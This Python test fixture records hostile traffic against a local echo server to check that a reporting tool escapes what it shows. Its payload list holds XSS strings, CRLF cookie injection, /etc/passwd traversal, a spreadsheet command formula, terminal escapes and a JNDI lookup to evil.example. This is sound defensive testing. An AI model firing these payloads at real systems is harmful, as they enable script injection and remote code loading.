"""Traffic that attacks whoever reads of it, recorded by the real sidecar: text in every place that has one.

What is recorded here is folded and joined with a document as any traffic is; tests look at what comes out.
"""

from __future__ import annotations

import json
import re
import socket
import threading
from base64 import b64encode
from contextlib import contextmanager
from typing import TYPE_CHECKING, BinaryIO
from urllib.parse import quote

import yaml

from inference.fold import fold
from reports.web.snapshot import Sources
from store.records import Body, Identity, Lane, Message
from store.store import Store
from tests.cli.sidecar import recorder
from tests.reports.conftest import HOSTILE, MORNING, SECOND

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

TEXTS = (
    *HOSTILE,
    "<img src=x onerror=alert(1)>",
    "</script><script>alert(1)</script>",
    "]]><script>alert(1)</script><![CDATA[",
    '" autofocus onfocus=alert(1) x="',
    "' onmouseover='alert(1)",
    "` onload=`alert(1)",
    "&lt;script&gt;alert(1)&lt;/script&gt;&#60;script&#62;",
    "javascript:alert(1)//",
    "data:text/html,<script>alert(1)</script>",
    "//evil.example/%2e%2e/%0d%0aX-Evil:1",
    "../../../../etc/passwd\x00.html",
    "=cmd|'/C calc'!A0",
    "\t=1+1",
    "\r\nSet-Cookie: defacto=owned",
    "\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "\x07\x08\x7f\x85\x9d52;c;b3duZWQ=\x9c",
    "\u0430dmin\u200d\u2062\u3164\u115f",  # a Cyrillic letter, joiners, and letters that show nothing
    "e" + "\u0301" * 60,
    "\U0001f469\u200d\U0001f469\u200d\U0001f467 \U000e0041\U000e007f",
    "__proto__",
    "%s%n%x{0.__class__}${jndi:ldap://evil.example/a}#{7*7}<%= 7*7 %>",
    "A" * 3000,
    "<b>" * 700,
)
TIMES = 6
"""How often each is sent by each consumer: more than what is needed for a claim."""


def attacked(folder: Path) -> Sources:
    """Record it all, fold it, and write the document that promises half of it."""
    with _service() as port, recorder(folder, port) as running:
        for text in TEXTS:
            _call(running.port, text)
        running.end()
        store = str(running.store)
    with Store.open(store) as opened:
        opened.write((), list(_messages()))
        fold(opened)
    document = folder / "declared.yaml"
    document.write_text(yaml.safe_dump(_document()), "utf-8")
    return Sources(
        store=store, declared=(f"orders={document}",), ledger=folder / "contract.yaml", infer=False
    )


def _call(port: int, text: str) -> None:
    """A consumer whose name is the text asks for things that are called so."""
    encoded = quote(text.encode("utf-8", "surrogatepass"), safe="")[:6000]
    header = re.sub(r"[\x00-\x1f\x7f]", "", text).encode("utf-8", "surrogatepass")[:2000]
    named = b64encode(text.encode("utf-8", "surrogatepass") + b":secret")
    body = json.dumps({text: text, "deep": [{text: {text: [text]}}], "id": text}).encode()
    targets = (f"/items/{encoded}", f"/{encoded}", f"/items?{encoded}={encoded}&q={encoded}")
    with socket.create_connection(("127.0.0.1", port), timeout=20) as connection:
        stream = connection.makefile("rb")
        for target in targets:
            for _ in range(TIMES):
                connection.sendall(
                    b"POST %s HTTP/1.1\r\nHost: shop.example\r\nUser-Agent: %s\r\nAuthorization: Basic %s\r\n"
                    b"X-Note: %s\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n%s"
                    % (target.encode(), header, named, header, len(body), body)
                )
                _answer_of(stream)


def _answer_of(stream: BinaryIO) -> bytes:
    size = 0
    while (line := stream.readline()) not in {b"\r\n", b""}:
        if line.lower().startswith(b"content-length:"):
            size = int(line.partition(b":")[2])
    return bytes(stream.read(size))


@contextmanager
def _service() -> Iterator[int]:
    """A server that says back what it was sent: in its status, its headers and its body."""
    with socket.create_server(("127.0.0.1", 0)) as listening:

        def serve(connection: socket.socket) -> None:
            with connection, connection.makefile("rb") as stream:
                while line := stream.readline():
                    headers = list(iter(stream.readline, b"\r\n"))
                    size = next(
                        int(one[15:]) for one in headers if one.lower().startswith(b"content-length:")
                    )
                    note = next(one[7:].strip() for one in headers if one.lower().startswith(b"x-note:"))
                    sent = stream.read(size)
                    status = b"418 " + note[:40] if b"/items/" in line else b"200 OK"
                    connection.sendall(
                        b"HTTP/1.1 %s\r\nContent-Type: application/json\r\nX-Echo: %s\r\n"
                        b"Location: %s\r\nContent-Length: %d\r\n\r\n%s" % (status, note, note, size, sent)
                    )

        def accept() -> None:
            while True:
                try:
                    connection, _ = listening.accept()
                except OSError:
                    return
                threading.Thread(target=serve, args=(connection,), daemon=True).start()

        thread = threading.Thread(target=accept, daemon=True)
        thread.start()
        yield int(listening.getsockname()[1])
        listening.shutdown(socket.SHUT_RDWR)
        thread.join()


def _messages() -> Iterator[Message]:
    """Events on channels, with types, keys and headers that are called so, from and for those called so.

    Decoders of brokers let no lone surrogate through.
    """
    for number, text in enumerate(one.encode(errors="replace").decode() for one in TEXTS):
        payload = json.dumps({text: text, "id": str(number)}).encode()
        for time in range(TIMES):
            at = MORNING + (number * TIMES + time) * SECOND
            yield Message(
                id=f"hostile{number:04}{time:04}",
                producer="orders",
                lane=Lane.SPLICE,
                source="tests",
                protocol="amqp",
                channel=text,
                type=text,
                key=text,
                publisher=Identity(basis="user-agent", value=text),
                consumer=Identity(basis="user-agent", value=f"{text} reader"),
                headers=((text, text),),
                payload=Body(
                    content=payload, size=len(payload), wire_size=len(payload), media_type="application/json"
                ),
                published_at=at,
                delivered_at=at + SECOND // 100,
                acknowledgement=text,
                flaws=(text,),
            )


def _document() -> dict[str, object]:
    plain = [text for text in TEXTS[::2] if text.isprintable()]
    schema = {
        "type": "object",
        "required": plain,
        "properties": {text: {"type": "integer", "description": text} for text in plain},
    }
    answer = {"description": "<script>alert(1)</script>", "content": {"application/json": {"schema": schema}}}
    return {
        "openapi": "3.0.3",
        "info": {"title": "<script>alert(1)</script>", "version": "1"},
        "paths": {
            "/items": {"post": {"summary": "{{ 7*7 }}", "responses": {"200": answer}}},
            "/never/<script>": {"get": {"responses": {"200": {"description": "never"}}}},
        },
    }
